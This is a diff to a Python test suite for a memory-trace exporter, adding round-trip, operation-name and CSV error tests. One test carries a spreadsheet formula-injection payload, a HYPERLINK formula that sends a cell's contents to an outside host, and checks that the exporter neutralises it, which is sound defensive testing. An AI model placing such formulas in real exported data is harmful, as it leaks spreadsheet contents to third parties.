@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import pickle
 import pickletools
@@ -28,6 +29,9 @@ from smartpool.trace.exporters.placement import PAGE_BYTES, placed
 from smartpool.trace.exporters.torch_snapshot import snapshot_of
 
 SNAPSHOT = Path(__file__).parents[1] / "data" / "inputs" / "torch_snapshot.pickle"
+ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.sampled_from(
+    ["a < b", "=1+1", ":0 x", "a.py:007 f", "a.py:1 f", " a", '"quoted"', "one\rtwo", "\u2028"]
+)
 SITES = ["model.py:10 forward\ntrain.py:3 <module>", 'a "quoted", one.py:1 f', "no place at all"]
 
 
@@ -109,8 +113,7 @@ class TestTorchSnapshot:
         again = read_any(path)
         assert same_columns(trace, again)
         assert np.array_equal(again.address[trace.lifetimes().start], placed(trace).address)
-        expected = [text.replace("no place at all", ":0 no place at all") for text in stacks(trace)]
-        assert stacks(again) == expected
+        assert stacks(again) == stacks(trace)
 
     def test_a_real_snapshot_comes_back(self, tmp_path):
         trace = from_torch_snapshot(SNAPSHOT)
@@ -239,6 +242,31 @@ class TestChrome:
 
 
 class TestCsv:
+    @given(st.lists(ANY_TEXT | st.lists(ANY_TEXT, max_size=3).map("\n".join), min_size=1, max_size=5))
+    def test_stacks_of_any_text_read_back_equal(self, tmp_path_factory, sites):
+        sites = list(dict.fromkeys(sites))
+        columns = {"op": [0] * len(sites), "id": range(len(sites)), "size": [8] * len(sites)}
+        trace = Trace.from_columns("t", **columns, site=range(len(sites)), meta={"sites": sites})
+        for name in ("t.csv", "t.pickle"):
+            path = tmp_path_factory.mktemp("text") / name
+            write_any(trace, path)
+            assert stacks(read_any(path)) == stacks(trace)
+
+    def test_no_cell_is_a_formula(self, tmp_path):
+        site = '=HYPERLINK("http://elsewhere/?"&A1,"look"):1 f\n+1+1:2 g'
+        trace = Trace.from_columns("t", op=[0], id=[0], size=[8], site=[0], meta={"sites": [site]})
+        to_csv(trace, tmp_path / "t.csv")
+        with (tmp_path / "t.csv").open(newline="") as file:
+            cells = [cell for row in csv.reader(file) for cell in row]
+        assert [cell for cell in cells if cell[0] in "=+-@\t\r"] == []
+        assert from_csv(tmp_path / "t.csv").sites == (site,)
+
+    @pytest.mark.parametrize("names", [("allocate", "free"), ("Alloc", "FREE"), ("malloc", "deallocate")])
+    def test_operations_by_name(self, tmp_path, names):
+        path = tmp_path / "t.csv"
+        path.write_text("op,id,size\n{},0,8\n{},0,8\n".format(*names))
+        assert from_csv(path).op.tolist() == [0, 1]
+
     def test_by_hand_with_the_least_columns(self, tmp_path):
         path = tmp_path / "mine.csv"
         path.write_text("size, id ,op,note\n4096,7,0,first\n\n4096,7,1,last\n")
@@ -254,6 +282,12 @@ class TestCsv:
             ("op,op,id,size\n0,0,0,1\n", TraceFormatError, "each once"),
             ("op,id,size\n0,0\n", TraceFormatError, "line 2: expected 3 fields"),
             ("op,id,size\n0,0,-5\n", TraceFormatError, "line 2: expected 'size' to be a number"),
+            (
+                "op,id,size\nresize,0,5\n",
+                TraceFormatError,
+                "to be 0 or allocate, or 1 or free, got 'resize'",
+            ),
+            ("op,id,size\n0,0,1_000\n", TraceFormatError, "line 2: expected 'size' to be a number"),
             ("op,id,size\n0,0,1e9\n", TraceFormatError, "line 2: expected 'size' to be a number"),
             ('op,id,size\n0,0,"5\n', TraceFormatError, "expected CSV"),
             ("op,id,size\n0,0,5\n1,1,5\n", TraceInconsistentError, "never made"),
